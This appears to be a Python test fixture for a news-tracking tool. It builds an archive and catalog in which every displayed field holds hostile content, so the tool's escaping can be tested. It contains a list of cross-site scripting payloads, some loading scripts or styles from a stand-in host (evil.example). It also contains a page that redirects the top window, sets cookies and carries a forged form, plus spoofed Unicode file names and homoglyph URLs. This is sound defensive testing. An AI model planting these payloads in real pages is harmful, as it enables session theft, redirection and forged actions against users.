"""An archive full of what a hostile publisher would write, in every field that a page shows."""

from __future__ import annotations

import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from dataclasses import replace

from catalog_samples import comparison
from desk import Desk

from tracker.catalog.words import text_to_index
from tracker.models import Capture, Comparison, Event, Fact, Snapshot, Version

AT = datetime(2026, 4, 9, 8, 15, tzinfo=UTC)
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)><animate onbegin=alert(4) attributeName=x></svg>",
    '"><script src=//evil.example/x.js></script>',
    "' onmouseover='alert(5)' autofocus onfocus='alert(6)",
    "</title></style></textarea></script><script>alert(7)</script>",
    "<style>*{display:none}body{background:url(//evil.example/css)}</style>",
    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
    "<a href='javascript:alert(9)'>read on</a>",
    "{{ 7 * 7 }}{% raw %}${alert(10)}",
    '<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(11) src>">',
    "<link rel=stylesheet href=//evil.example/a.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202egnp.exe\u202c \x00\x07\x1b[31m",
    "<form action=//evil.example><input name=form_token></form><base href=//evil.example>",
    "data:text/html,<script>alert(12)</script>",
)
EVERYTHING = " ".join(ATTACKS)
URLS = (
    "https://news.example/a?b=<script>alert(13)</script>&c='\"",
    "https://xn--nws-8ua.example/javascript:alert(14)",
    "https://аррӏе.example/p",
)
PAGE = f"""<html><head><title>x</title><script>top.location='//evil.example';parent.alert(20);document.cookie='stolen=1'</script></head>
<body onload="alert(21)">{EVERYTHING}<script>fetch('/api/v1/changes').then(() => alert(22))</script>
<form action="/changes/1/opinion" method="post"><input name="verdict" value="agree"><button id="go">x</button></form><a id="away" href="//evil.example/">away</a></body></html>"""


def hostile_desk(folder: Path, *, headline: str = EVERYTHING, value: str = EVERYTHING) -> Desk:
    """A desk whose archive and catalog hold this everywhere."""
    desk = Desk(folder)
    with desk.opened() as pipeline:
        catalog = pipeline.catalog
        for number, url in enumerate(URLS, 1):
            article, _ = catalog.add_article(url, f"news.example/a-{number}", now=AT, tags=[value[:90], "plain"])
            for version in (1, 2):
                said = f"{value} {version}"
                text = Version(
                    headline,
                    (value,),
                    AT,
                    AT,
                    value,
                    "en",
                    (said, f"Correction: {said}"),
                    (value,),
                    (f"Correction: {said}",),
                    extractor=value,
                )
                at = AT + timedelta(hours=version + number * 3)
                snapshot = Snapshot(
                    url,
                    at,
                    200,
                    (("Content-Type", f"text/html; charset=utf-8; x={ATTACKS[0]}"),),
                    PAGE.encode("utf-8", "replace"),
                )
                stored = pipeline.archive.append(article.folder, snapshot, text, Capture())
                current = catalog.article_by_id(article.id)
                assert current
                happened = [(Event(0, url, "moved", value, headline, AT, at, at), [])] if version == 2 else []
                catalog.record_version(
                    article.id, at=at, due_at=at + timedelta(days=1), stored=stored, digest=f"sha256:{version}{number}", headline=headline,
                    updated_at=None, validators=snapshot.validators, comparison=hostile_comparison(headline, value) if version == 2 else None,
                    deliveries=lambda change: [], happened=happened, words=text_to_index(headline, text.paragraphs),
                )  # fmt: skip
            snapshot = Snapshot(
                url, at + timedelta(hours=1), 403, (("Content-Type", "image/svg+xml"),), PAGE.encode("utf-8", "replace")
            )
            stored = pipeline.archive.append(article.folder, snapshot, None, Capture(0.0, True, (value,)))
            catalog.record_suspect(article.id, at=at, due_at=at, stored=stored, reasons=(value,))
        source, _ = catalog.add_source(
            "https://news.example/feed?<script>alert(15)</script>", "feed", now=AT, tags=[value[:90]]
        )
        catalog.record_source_failure(source.id, at=AT, due_at=AT, error=value)
        catalog.record_opinion(1, verdict="other_kind", kind="time", note=value, now=AT)
        catalog.save_filter(ATTACKS[0], "tag=%3Cscript%3Ealert(16)%3C/script%3E", AT)
    return desk


def hostile_comparison(headline: str, value: str) -> Comparison:
    """A comparison with it in every text."""
    made = comparison()
    sentences = (headline, value, f"{value} 12", value)

    def side(side):
        return replace(
            side, headline=headline, byline=(value,), language=ATTACKS[4], sentences=sentences, notices=(value,)
        )

    fact = Fact(
        "number",
        "conflicts",
        value,
        value,
        2,
        2,
        3,
        about=value,
        counted=value,
        source=value,
        reason=value,
        standing_sentence=1,
    )
    steps = (
        *made.sentences[:2],
        replace(made.sentences[2], words=(("delete", value), ("insert", f"{value} 12"))),
        made.sentences[3],
    )
    judgement = replace(made.judgement, reasons=(value,))
    new = replace(side(made.new), notices=(value, f"{value} new"))
    return replace(
        made, judgement=judgement, old=side(made.old), new=new, facts=(fact,), sentences=steps, warnings=(value,)
    )
